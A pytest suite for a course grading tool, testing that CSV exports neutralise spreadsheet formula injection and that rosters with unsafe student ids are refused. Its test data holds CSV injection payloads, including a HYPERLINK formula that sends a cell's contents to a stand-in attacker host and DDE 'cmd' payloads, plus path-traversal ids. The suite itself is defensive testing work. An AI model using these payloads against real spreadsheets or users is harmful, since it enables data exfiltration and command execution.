"""Exports are safe to open in a spreadsheet: CSV injection through a student's name, id or e-mail is neutralised in
every CSV the grader writes, and a roster with an id that cannot name a folder is refused whole."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from support.course import WARMUP, make_course_root

from tlcourse.grading.course import CourseError, course_dir, load_nbgrader_config, open_gradebook
from tlcourse.grading.export import EXPORTERS, export_grades, import_roster, is_safe_id
from tlcourse.grading.gradebook import CSV_COLUMNS, GradeRow, write_grades_csv
from tlcourse.grading.tables import FORMULA_STARTS, cell, write_csv

#: One payload per formula start (OWASP's = + - @ tab CR, a line feed, leading blanks, full-width forms).
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"grades")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "-", "=",
            "@evil.example"]
NUMBERS = ["6", "4.2", "-0.5", "0", "1e-05", "+3", ".5"]


def _read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _written(payload: str) -> str:
    """A payload as a neutralised cell holds it (a carriage return becomes a line feed)."""
    return "'" + payload.replace("\r", "\n")


def _dangerous(text: str) -> bool:
    """What a spreadsheet would run as a formula (our exemption: a plain decimal number)."""
    return cell(text) != text


# ------------------------------------------------------------------------------------------------ cell
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_quote(payload: str) -> None:
    assert cell(payload) == _written(payload)


@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert cell(start + "cmd").startswith("'")


@pytest.mark.parametrize("number", NUMBERS)
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert cell(number) == number
    assert cell(float(number)) == str(float(number))


@pytest.mark.parametrize("text", ["-1+1", "-0.5 ", "+1e", "--1", "-1,5", "- 1", "-0x10", "-inf", "-nan"])
def test_almost_numbers_are_text(text: str) -> None:
    assert cell(text) == "'" + text


def test_ordinary_text_untouched() -> None:
    for text in ("alice", "Smith, Jane", "    Points Possible", "a=b", "jane@x.org", "0:00:00", "", "O'Neil"):
        assert cell(text) == text


# ------------------------------------------------------------------------------------------ write_csv
def test_write_csv_round_trips_and_leaves_no_temporary(tmp_path: Path) -> None:
    out = write_csv(tmp_path / "sub" / "t.csv", ["id", "note"], [[p, p] for p in PAYLOADS] + [["n", "6"]])
    rows = _read(out)
    assert rows[0] == ["id", "note"] and rows[-1] == ["n", "6"]
    assert [r[0] for r in rows[1:-1]] == [_written(p) for p in PAYLOADS], "quoted, and otherwise intact"
    assert [p.name for p in out.parent.iterdir()] == ["t.csv"]


def test_carriage_return_cannot_start_a_row(tmp_path: Path) -> None:
    """Python 3.11's writer leaves a bare CR unquoted (the line terminator is LF): it would split the row."""
    out = write_csv(tmp_path / "t.csv", ["name", "score"], [["Eve\r=HYPERLINK(1)", "6"], ["x\r\n@y", "1"]])
    assert _read(out) == [["name", "score"], ["Eve\n=HYPERLINK(1)", "6"], ["x\n@y", "1"]]


def test_write_csv_failure_keeps_the_old_file(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    out.write_text("old\n")

    def rows() -> object:
        yield ["a"]
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_csv(out, ["h"], rows())
    assert out.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_grades_csv_is_safe(tmp_path: Path) -> None:
    rows = [GradeRow(p, WARMUP, 6, 8, "ok", p) for p in PAYLOADS] + [GradeRow("bob", WARMUP, 4.5, 8, "ok", "")]
    write_grades_csv(rows, tmp_path / "grades.csv")
    header, *body = _read(tmp_path / "grades.csv")
    assert header == list(CSV_COLUMNS)
    assert not [c for r in body for c in r if _dangerous(c)]
    assert {r[0] for r in body} == {_written(p) for p in PAYLOADS} | {"bob"}
    assert [r[2] for r in body if r[0] == "bob"] == ["4.5"], "scores stay numbers"


# --------------------------------------------------------------------------------------- LMS exports
@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course root whose gradebook holds the warm-up and one student per payload in every text field (ids
    straight into the gradebook: an import would refuse them, an older gradebook may hold them)."""
    root = make_course_root(tmp_path_factory.mktemp("hostile") / "root")
    with open_gradebook(course_dir(load_nbgrader_config(root))) as gb:
        gb.update_or_create_assignment(WARMUP)
        for n, payload in enumerate(PAYLOADS):
            gb.update_or_create_student(payload, first_name=payload, last_name=payload, email=payload,
                                        lms_user_id=payload)
            gb.update_or_create_student(f"safe{n}", first_name=payload, last_name="Doe", email=f"{payload}@x.org")
    return root


@pytest.mark.parametrize("lms", list(EXPORTERS))
def test_exports_neutralise_formulas(lms: str, hostile_root: Path, tmp_path: Path) -> None:
    out = export_grades(lms, tmp_path / f"{lms}.csv", root=hostile_root)
    rows = _read(out)
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if _dangerous(c)], f"{lms}: a cell a spreadsheet would run"
    for payload in PAYLOADS:
        kept = _written(payload.strip(", "))[1:]
        assert any(c.startswith("'") and kept in c for c in cells), f"{lms}: {payload!r} lost"
    assert len(rows) >= 2 * len(PAYLOADS) + 1, "every student has a row"
    assert [p.name for p in tmp_path.iterdir()] == [f"{lms}.csv"], "no temporary left"


# -------------------------------------------------------------------------------------------- roster
@pytest.mark.parametrize("student_id", ["..", ".", "../../etc", "a/b", "=HYPERLINK(1)", "-rf", "+1", "@x", "_a",
                                        ".hidden", "x" * 65, "jane doe", "é", "a\\b", "a\tb"])
def test_unsafe_ids(student_id: str) -> None:
    assert not is_safe_id(student_id)


@pytest.mark.parametrize("student_id", ["jane", "S1001", "j.doe@x.org", "a+b", "a-b_c", "x" * 64, "7"])
def test_safe_ids(student_id: str) -> None:
    assert is_safe_id(student_id)


def _students(root: Path) -> set[str]:
    with open_gradebook(course_dir(load_nbgrader_config(root))) as gb:
        return {s.id for s in gb.students}


@pytest.mark.parametrize(("roster", "bad_line", "bad_id"), [
    ("id,first_name,last_name,email\njane,Jane,S,j@x.org\n../x,E,V,e@x.org\n", 3, "../x"),
    ("id,first_name,last_name,email\n\"=HYPERLINK(\"\"http://e\"\")\",E,V,\njane,J,S,\n", 2, "=HYPERLINK"),
    ('Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\n"Smith, Jane",1,S1,jane,A\n'
     '"Evil, Eve",2,S2,..,A\n', 4, "'..'"),
    ("First Name,Last Name,Email\nJane,S,jane@x.org\nEve,V,-cmd@x.org\n", 3, "-cmd"),
], ids=["nbgrader-dotdot", "nbgrader-formula", "canvas-dotdot", "gradescope-email"])
def test_roster_with_unsafe_id_is_refused_whole(roster: str, bad_line: int, bad_id: str, tmp_path: Path) -> None:
    root = make_course_root(tmp_path / "root")
    (tmp_path / "roster.csv").write_text(roster)
    with pytest.raises(CourseError) as error:
        import_roster(tmp_path / "roster.csv", root)
    assert f"line {bad_line}: " in str(error.value) and bad_id in str(error.value), str(error.value)
    db = course_dir(load_nbgrader_config(root)).db_url.removeprefix("sqlite:///")
    assert not Path(db).exists(), "refused before the gradebook is touched: nothing imported"


def test_roster_with_safe_ids_imports(tmp_path: Path) -> None:
    root = make_course_root(tmp_path / "root")
    (tmp_path / "roster.csv").write_text("id,first_name,last_name,email\njane,=Jane,S,j@x.org\n,No,Id,\n"
                                         "j.doe@x.org,John,Doe,\n")
    assert import_roster(tmp_path / "roster.csv", root) == ["jane", "j.doe@x.org"]
    assert _students(root) == {"jane", "j.doe@x.org"}


def test_one_student_id_check_with_no_trailing_newline() -> None:
    """One check of student ids for the whole course (submissions, rosters, LMS downloads, extensions): the
    submissions' copy used ``^…$`` with ``match``, which let ``"jane\\n"`` through."""
    import importlib

    modules = [importlib.import_module(f"tlcourse.grading.{m}")
               for m in ("collect", "export", "lateness", "submissions", "roster", "course")]
    course = modules[-1]
    assert all(m.is_safe_id is course.is_safe_id for m in modules)
    assert not course.is_safe_id("jane\n") and course.is_safe_id("jane")
    grading = Path(course.__file__).parent
    assert [p.name for p in sorted(grading.glob("*.py")) if "SAFE_ID = re.compile" in p.read_text()] == ["course.py"]
